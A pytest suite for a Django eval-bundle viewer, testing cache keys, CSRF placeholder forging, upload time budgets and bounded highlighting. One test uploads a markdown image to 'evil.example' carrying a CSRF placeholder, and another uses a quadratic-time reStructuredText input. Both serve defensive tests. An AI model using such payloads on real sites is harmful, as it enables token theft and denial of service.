"""No request can make a worker redo or run unbounded work decided by content: parameters that are
not settings do not reach a kept page's key, uploaded text cannot forge the CSRF placeholder, an
upload's documents share one budget, highlighting runs bounded and is kept, and the offline copy is
built once per bundle state."""

import json
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.urls import reverse

from inspector.bundles import loading
from inspector.bundles.ingest import store_bundle
from inspector.cases import highlighting, source_view
from inspector.cases.addresses import case_url
from inspector.core import bounded, highlight
from inspector.models import Bundle
from inspector.rendering import document_views
from inspector.views import page_cache

ROOT = Path(__file__).resolve().parents[2]
SUITE = b"tests:\n  - id: a\n    input: first question\n  - id: b\n    input: second question\n"


@pytest.fixture
def bundle(db):
    stored, _ = store_bundle({"evals/suite.yaml": SUITE}, title="suite")
    return stored


def _never_rendered_again(monkeypatch):
    monkeypatch.setattr(document_views, "case_index", lambda *a, **k: pytest.fail("rendered again"))
    monkeypatch.setattr(document_views, "outline", lambda *a, **k: pytest.fail("rendered again"))


@pytest.mark.parametrize("page", ["case", "bundle"])
def test_a_parameter_that_is_no_setting_does_not_build_the_page_again(client, bundle, monkeypatch, page):
    url = case_url(bundle.pk, "evals/suite.yaml", "a") if page == "case" else f"/b/{bundle.pk}/"
    first = client.get(url)
    assert first.status_code == 200
    _never_rendered_again(monkeypatch)
    for busting in (
        "?utm_source=1",
        "?utm_source=2&fbclid=x",
        "?profile=auto",
        "?provider=openai-chat",
        "?format=json&utm_source=3",
        "?model=",
    ):
        again = Client().get(url + busting)
        assert again.status_code == 200 and again["ETag"] == first["ETag"], busting
        assert "utm_source" not in again.content.decode() and "fbclid" not in again.content.decode()


def test_settings_still_make_their_own_page(client, bundle):
    url = case_url(bundle.pk, "evals/suite.yaml", "a")
    plain = client.get(url)
    other = client.get(url + "?provider=anthropic&utm_source=1")
    assert other.status_code == 200 and other["ETag"] != plain["ETag"]
    assert client.get(url + "?utm_source=2&provider=anthropic")["ETag"] == other["ETag"]
    assert client.get(url + "?provider=nonsense").status_code == 400


def test_the_bundle_filter_is_still_a_page_of_its_own(client, bundle):
    everything = client.get(f"/b/{bundle.pk}/").content.decode()
    filtered = client.get(f"/b/{bundle.pk}/?q=second&utm_source=1").content.decode()
    assert "first question" in everything or "/a/" in everything
    assert filtered != everything and 'value="second"' in filtered


def test_the_placeholder_is_not_a_fixed_string_an_uploader_could_write():
    assert re.fullmatch(r"csrf-[0-9a-f]{32}", page_cache.CSRF_PLACEHOLDER)
    another_process = subprocess.run(
        [
            sys.executable,
            "-c",
            "import django; django.setup(); "
            "from inspector.views.page_cache import CSRF_PLACEHOLDER; print(CSRF_PLACEHOLDER)",
        ],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
        env=dict(os.environ, DJANGO_SETTINGS_MODULE="inspector.settings"),
    )
    assert another_process.stdout.strip() not in ("", page_cache.CSRF_PLACEHOLDER)


@pytest.mark.parametrize("door", ["page", "api"])
def test_uploaded_text_holding_a_placeholder_is_shown_as_written(client, db, door):
    # The placeholder before this fix, and a guess of the same shape as today's.
    placeholders = ["csrf-placeholder-7f1c2a9e4b", f"csrf-{secrets.token_hex(16)}"]
    text = (
        "tests:\n  - id: a\n    input: '![x](https://evil.example/?t="
        + placeholders[0]
        + ") "
        + placeholders[1]
        + "'\n"
    ).encode()
    if door == "page":
        answer = client.post("/", {"files": [SimpleUploadedFile("s.yaml", text)]})
        assert answer.status_code in (302, 303), answer.content[:300]
        bundle_id = answer["Location"].strip("/").split("/")[1]
    else:
        answer = client.post(
            "/api/bundles", {"files": {"s.yaml": text.decode()}}, content_type="application/json"
        )
        assert answer.status_code == 201, answer.content[:300]
        bundle_id = answer.json()["id"]
    url = case_url(bundle_id, "s.yaml", "a")
    for _ in range(2):  # built, then answered from the kept page
        visitor = Client(enforce_csrf_checks=True)
        page = visitor.get(url).content.decode()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
        assert f"t={placeholders[0]}) {placeholders[1]}" in page
        assert page.count(token) == page.count('name="csrfmiddlewaretoken"')


def _three_honest_documents() -> dict[str, str]:
    cases = "".join(f"  - id: c{i}\n    input: hello {i}\n" for i in range(8_000))
    return {f"e{n}.yaml": "tests:\n" + cases for n in range(3)}


@override_settings(REQUEST_BUDGET_SECONDS=0.2, RENDER_DEADLINE_SECONDS=60)
def test_an_uploads_documents_share_one_budget_through_the_api(client, db):
    response = client.post(
        "/api/bundles", {"files": _three_honest_documents()}, content_type="application/json"
    )
    assert response.status_code == 422, response.content[:300]
    assert "budget of 0.2 s" in response.json()["detail"]
    assert Bundle.objects.count() == 0


@override_settings(REQUEST_BUDGET_SECONDS=0.2, RENDER_DEADLINE_SECONDS=60)
def test_an_uploads_documents_share_one_budget_through_the_page(client, db):
    files = [SimpleUploadedFile(name, text.encode()) for name, text in _three_honest_documents().items()]
    response = client.post("/", {"files": files})
    assert response.status_code in (400, 422, 503)
    assert "budget of 0.2 s" in response.content.decode()
    assert Bundle.objects.count() == 0


def test_the_deadlines_end_before_gunicorns_timeout():
    from inspector import gunicorn_conf

    assert gunicorn_conf.timeout == settings.REQUEST_TIMEOUT_SECONDS
    assert settings.RENDER_DEADLINE_SECONDS <= settings.REQUEST_BUDGET_SECONDS < gunicorn_conf.timeout


def test_a_smaller_timeout_shrinks_every_deadline_with_it():
    found = subprocess.run(
        [
            sys.executable,
            "-c",
            "from inspector import settings as s, gunicorn_conf as g; "
            "print(g.timeout, s.REQUEST_BUDGET_SECONDS, s.RENDER_DEADLINE_SECONDS)",
        ],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
        env=dict(os.environ, REQUEST_TIMEOUT_SECONDS="8", RENDER_DEADLINE_SECONDS="30"),
    )
    timeout, budget, deadline = (float(value) for value in found.stdout.split())
    assert timeout == 8 and deadline <= budget < timeout


def _source_lines(page: str) -> list[str]:
    return re.findall(
        r'<div class="line[^"]*" id="L(\d+)"[^>]*><a class="num"[^>]*>\d+</a>'
        r'<span class="text">(.*?)</span></div>',
        page,
        flags=re.S,
    )


@override_settings(HIGHLIGHT_SECONDS=0.3)
def test_a_file_slow_to_highlight_is_shown_plain_in_the_same_layout_and_kept(client, db, monkeypatch):
    # reStructuredText's lexer is quadratic on "`a ": 90 KB would take seconds in the web process.
    hostile = "`a " * 30_000 + "\n<b>line two</b>\n"
    stored, _ = store_bundle({"docs/l.rst": hostile.encode(), "evals/suite.yaml": SUITE}, title="rst")
    url = reverse("source", kwargs={"bundle_id": stored.pk, "path": "docs/l.rst"})
    first = client.get(url)
    assert first.status_code == 200
    lines = _source_lines(first.content.decode())
    assert [number for number, _ in lines] == ["1", "2"]
    assert lines[1][1] == "&lt;b&gt;line two&lt;/b&gt;" and "<span" not in lines[0][1][:200]
    monkeypatch.setattr(bounded.Pool, "call", lambda *a, **k: pytest.fail("highlighted again"))
    again = Client().get(url)
    assert again.status_code == 200 and _source_lines(again.content.decode()) == lines


def test_a_file_is_highlighted_once_in_the_worker_and_kept_for_every_visitor(client, db, monkeypatch):
    honest = "".join(f"Section {n}\n=========\n\nSome ``literal`` and *emphasis*.\n\n" for n in range(200))
    stored, _ = store_bundle({"docs/guide.rst": honest.encode(), "evals/suite.yaml": SUITE}, title="rst")
    url = reverse("source", kwargs={"bundle_id": stored.pk, "path": "docs/guide.rst"})
    calls = []
    real_call = bounded.Pool.call
    monkeypatch.setattr(bounded.Pool, "call", lambda *a, **k: calls.append(a[1]) or real_call(*a, **k))
    first = client.get(url)
    assert first.status_code == 200 and '<span class="' in first.content.decode()
    assert [function.__name__ for function in calls] == ["html_lines"]
    highlighting._highlight_lines_cached.cache_clear()  # another worker: only the shared cache
    again = Client().get(url)
    assert again.content == first.content and len(calls) == 1


def test_the_worker_highlights_exactly_as_the_web_process_would(db):
    text = "tests:\n  - id: a\n    input: '<b>&amp;</b>'\n\n" * 400
    assert len(text) > highlighting._IN_PROCESS_CHARS
    shown = highlighting._highlight_lines("e.yaml", text)
    assert tuple(line.html for line in shown) == highlight.html_lines("e.yaml", text)


def test_the_offline_copy_is_made_once_and_kept_until_the_review_changes(client, bundle, monkeypatch):
    from inspector.bundles import offline
    from inspector.review.models import Verdict

    url = f"/b/{bundle.pk}/offline.html"
    made = []
    real = offline.offline_data
    monkeypatch.setattr(offline, "offline_data", lambda *a, **k: made.append(1) or real(*a, **k))
    first = client.get(url + "?utm_source=1")
    assert first.status_code == 200 and len(made) == 1
    assert Client().get(url).content == first.content and len(made) == 1
    Verdict.objects.create(
        bundle=bundle,
        document="evals/suite.yaml",
        case_id="a",
        verdict="ok",
        author="Alice",
        author_key_hash="0" * 64,
    )
    reviewed = client.get(url)
    assert reviewed.status_code == 200 and len(made) == 2 and b"Alice" in reviewed.content


def test_an_offline_copy_past_the_requests_budget_is_a_503_with_a_message_and_not_kept(client, bundle):
    from inspector.rendering import cache as render_cache

    render_cache.clear()
    loading.clear_caches()  # its renders must be made again, in the worker
    with override_settings(REQUEST_BUDGET_SECONDS=0.000_001):
        late = client.get(f"/b/{bundle.pk}/offline.html")
    assert late.status_code == 503
    assert "budget of 1e-06 s" in late.content.decode()
    made = client.get(f"/b/{bundle.pk}/offline.html")
    assert made.status_code == 200 and b"first question" in made.content


def test_an_offline_copy_of_texts_not_found_at_their_lines_still_holds_them(client, db):
    # JSON strings with escapes read otherwise than their file: they go to the table.
    body = json.dumps(
        {
            "model": "m",
            "messages": [
                {"role": "user" if n % 2 == 0 else "assistant", "content": f'turn {n}\\n"quoted"'}
                for n in range(200)
            ],
        },
        indent=1,
    )
    stored, _ = store_bundle({"c.json": body.encode()}, title="escapes")
    html = client.get(f"/b/{stored.pk}/offline.html").content.decode()
    data = json.loads(
        re.search(r'id="bundle-data">(.*?)</script>', html, re.S).group(1).replace("<\\/", "</")
    )
    assert 'turn 199\\n"quoted"' in data["table"]


def test_a_page_whose_highlighting_met_busy_workers_is_not_kept(client, db, monkeypatch):
    text = "tests:\n" + "".join(f"  - id: c{n}\n    input: question {n}\n" for n in range(300))
    stored, _ = store_bundle({"e.yaml": text.encode()}, title="busy")
    url = case_url(stored.pk, "e.yaml", "c1")

    def busy(*args, **kwargs):
        raise bounded.Busy("the server is busy rendering other files; try again")

    monkeypatch.setattr(bounded.Pool, "_take", lambda *a, **k: busy())
    highlighting._highlight_lines_cached.cache_clear()
    plain = _source_lines(client.get(url).content.decode())
    assert plain[1] == ("2", "  - id: c0")  # shown plain, escaped, numbered
    monkeypatch.undo()
    highlighting._highlight_lines_cached.cache_clear()
    coloured = _source_lines(client.get(url).content.decode())
    assert [number for number, _ in coloured] == [number for number, _ in plain]
    assert '<span class="' in coloured[1][1]  # built again, not the plain page kept


@override_settings(REQUEST_BUDGET_SECONDS=0.5)
def test_an_offline_copy_too_large_for_what_is_left_of_the_budget_is_refused_before_it_is_built(
    client, db, monkeypatch
):
    from inspector.bundles import offline

    big = "tests:\n" + "".join(f"  - id: c{n}\n    input: {'word ' * 40}{n}\n" for n in range(2_000))
    stored, _ = store_bundle({"e.yaml": big.encode()}, title="big")  # 430,000 characters: 1.6 s
    monkeypatch.setattr(offline, "offline_data", lambda *a, **k: pytest.fail("built past the budget"))
    refused = client.get(f"/b/{stored.pk}/offline.html")
    assert refused.status_code == 503 and "try again" in refused.content.decode()


def test_a_case_page_past_the_requests_budget_is_a_503_with_a_message_and_not_kept(client, bundle):
    from inspector.rendering import cache as render_cache

    url = case_url(bundle.pk, "evals/suite.yaml", "a") + "?profile=agentv-4"  # not rendered at upload
    render_cache.clear()
    loading.clear_caches()
    with override_settings(REQUEST_BUDGET_SECONDS=0.000_001):
        late = client.get(url)
    assert late.status_code == 503 and "budget of 1e-06 s" in late.content.decode()
    shown = client.get(url)
    assert shown.status_code == 200 and "first question" in shown.content.decode()


def test_a_source_page_is_kept_and_junk_parameters_do_not_build_it_again(client, bundle, monkeypatch):
    url = reverse("source", kwargs={"bundle_id": bundle.pk, "path": "evals/suite.yaml"})
    first = client.get(url + "?hl=2-3")
    assert first.status_code == 200 and 'class="line hl" id="L2"' in first.content.decode()
    monkeypatch.setattr(source_view.SourcePane, "build", lambda *a, **k: pytest.fail("built again"))
    for same in ("?hl=2-3&utm_source=1", "?hl=%202-3%20", "?utm_source=2&hl=2-3"):
        again = Client().get(url + same)
        assert again.status_code == 200 and again["ETag"] == first["ETag"], same
    plain = Client()
    monkeypatch.undo()
    unmarked = plain.get(url + "?hl=nonsense")
    assert unmarked["ETag"] != first["ETag"] and 'class="line hl"' not in unmarked.content.decode()
    monkeypatch.setattr(source_view.SourcePane, "build", lambda *a, **k: pytest.fail("built again"))
    assert plain.get(url + "?hl=other-nonsense")["ETag"] == unmarked["ETag"]
    assert plain.get(url)["ETag"] == unmarked["ETag"]
